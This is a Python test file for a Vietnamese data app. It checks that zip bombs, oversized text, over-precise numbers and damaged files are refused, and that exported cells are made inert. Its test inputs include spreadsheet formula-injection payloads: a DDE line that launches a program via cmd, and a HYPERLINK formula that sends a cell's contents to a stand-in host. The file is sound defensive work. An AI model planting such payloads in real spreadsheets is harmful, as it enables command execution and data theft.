"""What a hostile but realistic user sends is refused early, with a Vietnamese message, in bounded time and memory
(issue 18): zip bombs, texts too long to read, numbers too precise for their column, formulas and control
characters in what we write back."""

import io
import re
import zipfile
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook

from chitieu.api.bodies import _csv_lines
from chitieu.core.cells import inert, printable, read_back
from chitieu.core.numbers import (
    OBSERVATION_DIGITS,
    TARGET_DIGITS,
    NumberFormatError,
    check_digits,
    read_value,
)
from chitieu.core.tests.bombs import run_alone, shared_strings_workbook, word_bomb, workbook_bomb
from chitieu.core.zips import ArchiveRefused, open_checked
from chitieu.reading.extract import read_docx
from chitieu.reading.forms import SourceForm
from chitieu.results import xlsx_reader
from chitieu.results.workbook import WorkbookRefused, read_rows

# What each bomb costs its process beyond a bare `django.setup()`, and how long the whole process runs, with ten
# times headroom over what was measured (about 30 MB and 1 s): a guard against runaway growth, not a benchmark.
# Without the guards the workbook took 979 MB and the Word file 1,3 GB and 19 s.
GROWTH_MB = 300
SECONDS = 10


@pytest.fixture(scope="module")
def bare_process_mb() -> float:
    return run_alone("pass").peak_mb


def test_a_workbook_holding_a_400_mb_string_is_refused_in_bounded_memory(tmp_path, bare_process_mb):
    path = workbook_bomb(tmp_path / "so-lieu.xlsx", megabytes=400)
    assert path.stat().st_size < 600 * 1024
    run = run_alone(
        "from chitieu.results.workbook import WorkbookRefused, read_rows\n"
        f"try:\n    read_rows(open({str(path)!r}, 'rb').read())\n"
        "except WorkbookRefused as refused:\n    print(refused.errors[0])\n"
    )
    assert run.returncode == 0, run.output
    assert "Bảng tính bị nén bất thường" in run.output
    assert run.peak_mb - bare_process_mb < GROWTH_MB and run.seconds < SECONDS, run


def test_a_word_file_unpacking_to_80_mb_is_refused_in_bounded_memory(tmp_path, bare_process_mb):
    path = word_bomb(tmp_path / "bao-cao.docx", megabytes=80)
    assert path.stat().st_size < 300 * 1024
    run = run_alone(
        "from django.core.files.uploadedfile import SimpleUploadedFile\n"
        "from chitieu.reading.forms import SourceForm\n"
        f"form = SourceForm({{}}, {{'file': SimpleUploadedFile('bao-cao.docx', open({str(path)!r}, 'rb').read())}})\n"
        "print(form.is_valid(), form.errors.as_text())\n"
    )
    assert run.returncode == 0, run.output
    assert "False" in run.output and "Tệp Word bị nén bất thường" in run.output
    assert run.peak_mb - bare_process_mb < GROWTH_MB and run.seconds < SECONDS, run


def test_a_1_mb_paste_is_refused_with_how_to_split_it_in_bounded_memory(bare_process_mb):
    run = run_alone(
        "from chitieu.reading.forms import SourceForm\n"
        "form = SourceForm({'text': 'Năm 2024 thu nhập bình quân đạt 45 triệu đồng. ' * 22000})\n"
        "print(form.is_valid(), form.errors.as_text())\n"
    )
    assert run.returncode == 0, run.output
    assert "False" in run.output and "quá giới hạn 200.000 ký tự" in run.output
    assert "Hãy chia văn bản thành nhiều phần" in run.output
    assert run.peak_mb - bare_process_mb < GROWTH_MB and run.seconds < SECONDS, run


def test_the_paste_limit_lets_a_long_report_through():
    form = SourceForm({"text": "Năm 2024 thu nhập bình quân đạt 45 triệu đồng. " * 4000})
    assert form.is_valid(), form.errors


def sheet_bytes(rows: list[list], title: str = "Số liệu") -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def replaced(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """The workbook `data` with one piece of one part's XML replaced, stored without compression."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new, 1)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def test_a_cell_longer_than_excel_allows_is_refused_while_streaming():
    # 900 KB: under the size from which the compression ratio is checked, so only the streaming cap stops it.
    with pytest.raises(xlsx_reader.TooLarge, match="quá dài"):
        list(xlsx_reader.read_sheet(shared_strings_workbook(["z" * 900_000]), "Số liệu", "A", 1))
    data = replaced(
        sheet_bytes([["ok"]]), "xl/worksheets/sheet1.xml", b"<t>ok</t>", b"<t>" + b"z" * 900_000 + b"</t>"
    )
    with pytest.raises(xlsx_reader.TooLarge, match="quá dài"):
        list(xlsx_reader.read_sheet(data, "Số liệu", "A", 1))


def test_too_many_rows_or_cells_are_refused_before_they_are_all_read(settings):
    data = sheet_bytes([[index, "a", "b"] for index in range(50)])
    settings.CHITIEU_WORKBOOK_MAX_ROWS = 20
    with pytest.raises(xlsx_reader.TooLarge, match="hơn 20 dòng"):
        list(xlsx_reader.read_sheet(data, "Số liệu", "A", 3))
    settings.CHITIEU_WORKBOOK_MAX_ROWS = 1000
    settings.CHITIEU_WORKBOOK_MAX_CELLS = 60
    with pytest.raises(xlsx_reader.TooLarge, match="hơn 60 ô"):
        list(xlsx_reader.read_sheet(data, "Số liệu", "A", 3))


def test_shared_strings_beyond_their_limit_are_refused(settings):
    settings.CHITIEU_SHARED_STRINGS_MAX_CHARS = 1000
    with pytest.raises(WorkbookRefused) as refused:
        read_rows(shared_strings_workbook([f"chuỗi {index} " * 20 for index in range(50)]))
    assert "hơn 1.000 ký tự chữ" in refused.value.errors[0]


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 not really a zip", b"\x00" * 100])
def test_an_empty_or_damaged_file_is_refused_with_a_message(content):
    with pytest.raises(WorkbookRefused, match="không phải bảng tính Excel"):
        read_rows(content)
    with pytest.raises(ArchiveRefused, match="Không mở được tệp Word"):
        read_docx(io.BytesIO(content), "bao-cao.docx")


def test_a_zip_with_too_much_inside_is_refused_by_its_declared_sizes(settings):
    settings.CHITIEU_UNZIPPED_MAX_BYTES = 1024 * 1024
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.xml", b"<a/>" * 300_000)
    with pytest.raises(ArchiveRefused, match="quá giới hạn 1 MB"):
        open_checked(out.getvalue(), "bảng tính")


@pytest.mark.parametrize("command", ["extract", "parse_targets"])
@pytest.mark.parametrize("content", [b"", b"garbage, not a zip"])
def test_the_reading_commands_answer_a_message_not_a_traceback(tmp_path, command, content):
    path = tmp_path / "nghi-quyet.docx"
    path.write_bytes(content)
    with pytest.raises(CommandError, match="Không đọc được"):
        call_command(command, str(path), stdout=StringIO())


def test_a_workbook_number_with_5000_digits_is_refused_as_too_big_not_unreadable():
    data = replaced(
        sheet_bytes([[1]]), "xl/worksheets/sheet1.xml", b"<v>1</v>", b"<v>" + b"9" * 5000 + b"</v>"
    )
    [(_number, cells)] = list(xlsx_reader.read_sheet(data, "Số liệu", "A", 1))
    assert isinstance(cells[0], Decimal)
    with pytest.raises(NumberFormatError, match="phần nguyên có 5000 chữ số"):
        check_digits(cells[0])


@pytest.mark.parametrize(
    ("typed", "digits", "expected"),
    [
        ("1.234,5", OBSERVATION_DIGITS, Decimal("1234.5")),
        ("0,123456", OBSERVATION_DIGITS, Decimal("0.123456")),
        ("1,500000000", OBSERVATION_DIGITS, Decimal("1.5")),
        ("30 tỷ", OBSERVATION_DIGITS, Decimal("30000000000")),
        ("-12,5%", OBSERVATION_DIGITS, Decimal("-12.5")),
        ("99.999.999.999.999.999,999999", OBSERVATION_DIGITS, Decimal("99999999999999999.999999")),
        ("999.999.999.999.999,9999", TARGET_DIGITS, Decimal("999999999999999.9999")),
    ],
)
def test_a_number_that_fits_its_column_is_read(typed, digits, expected):
    assert read_value(typed, digits) == expected


@pytest.mark.parametrize(
    ("typed", "digits", "message"),
    [
        ("0,1234567", OBSERVATION_DIGITS, "Số có 7 chữ số sau dấu phẩy; chỉ được tối đa 6"),
        ("9.999.999.999.999.999.999", OBSERVATION_DIGITS, "phần nguyên có 19 chữ số, chỉ được tối đa 17"),
        ("1.000.000.000 tỷ", OBSERVATION_DIGITS, "chỉ được tối đa 17"),
        ("0,12345", TARGET_DIGITS, "chỉ được tối đa 4"),
        ("1" * 16, TARGET_DIGITS, "chỉ được tối đa 15"),
    ],
)
def test_a_number_that_does_not_fit_says_the_allowed_form(typed, digits, message):
    with pytest.raises(NumberFormatError, match=message):
        read_value(typed, digits)


@pytest.mark.parametrize(
    "value", [Decimal("NaN"), Decimal("Infinity"), Decimal("-Infinity"), Decimal("sNaN")]
)
def test_a_value_that_is_not_a_number_is_refused(value):
    with pytest.raises(NumberFormatError):
        check_digits(value)


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ('=HYPERLINK("http://x/?a="&A1,"Bấm vào đây")', '\'=HYPERLINK("http://x/?a="&A1,"Bấm vào đây")'),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tchữ", "'\tchữ"),
        ("\rchữ", "'\rchữ"),
        ("-5", "-5"),
        ("-1.234,5", "-1.234,5"),
        ("+3,2%", "+3,2%"),
        ("Thu nhập\x0bbình quân\x01\x1f", "Thu nhập\nbình quân"),
        ("Tỷ lệ hộ nghèo = 2%", "Tỷ lệ hộ nghèo = 2%"),
    ],
)
def test_text_written_to_a_file_is_inert_and_printable(written, expected):
    assert inert(written) == expected
    assert read_back(inert(printable(written))) == printable(written)


def test_the_csv_export_quotes_formulas_but_keeps_numbers():
    rows = [
        {"ghi_chu": "=1+2", "gia_tri": Decimal("-5"), "ten": "@x"},
        {"ghi_chu": "bình\x01 thường", "gia_tri": Decimal("12.5"), "ten": "-y"},
    ]
    text = "".join(_csv_lines(["ghi_chu", "gia_tri", "ten"], rows))
    assert text.splitlines()[1:] == ["'=1+2,-5,'@x", "bình thường,12.5,'-y"]


def test_the_reading_commands_refuse_a_text_beyond_ten_times_the_paste_limit(tmp_path, settings):
    settings.CHITIEU_PASTE_MAX_CHARS = 1000
    path = tmp_path / "bao-cao.txt"
    path.write_text("Năm 2024 thu nhập đạt 45 triệu đồng. " * 300, encoding="utf-8")
    with pytest.raises(CommandError, match="quá giới hạn 10.000 ký tự mỗi lần đọc; hãy chia tệp"):
        call_command("extract", str(path), stdout=StringIO())
    path.write_bytes(b"x" * 50_000)  # refused from its size, before it is read
    with pytest.raises(CommandError, match="ít nhất 12.500 ký tự"):
        call_command("parse_targets", str(path), stdout=StringIO())


PACKAGE = Path(__file__).resolve().parents[2]
# Files of our own, not uploads: the Word templates shipped in the package, and the script that makes them.
OWN_FILES = {"documents/word.py", "documents/make_templates.py"}


def sources() -> list[tuple[str, str]]:
    return [
        (path.relative_to(PACKAGE / "chitieu").as_posix(), path.read_text(encoding="utf-8"))
        for path in sorted((PACKAGE / "chitieu").rglob("*.py"))
        if "tests" not in path.parts and "migrations" not in path.parts
    ]


def test_every_reader_of_an_xlsx_or_docx_checks_the_zip_first():
    readers = re.compile(r"load_workbook\(|zipfile\.ZipFile\(|ZipFile\(|docx\.Document\(|\bDocument\(")
    unchecked = [
        name
        for name, text in sources()
        if readers.search(text) and "zips." not in text and name not in OWN_FILES and name != "core/zips.py"
    ]
    assert not unchecked, f"read these through chitieu.core.zips.open_checked first: {unchecked}"


def test_every_writer_of_an_xlsx_docx_or_csv_writes_through_core_cells():
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|ooxml\.table\(|\.add_run\(")
    unguarded = [
        name
        for name, text in sources()
        if writers.search(text) and "cells import" not in text and name not in {"documents/make_templates.py"}
    ]
    assert not unguarded, (
        f"write user text through chitieu.core.cells (safe, safe_row, inert, printable): {unguarded}"
    )
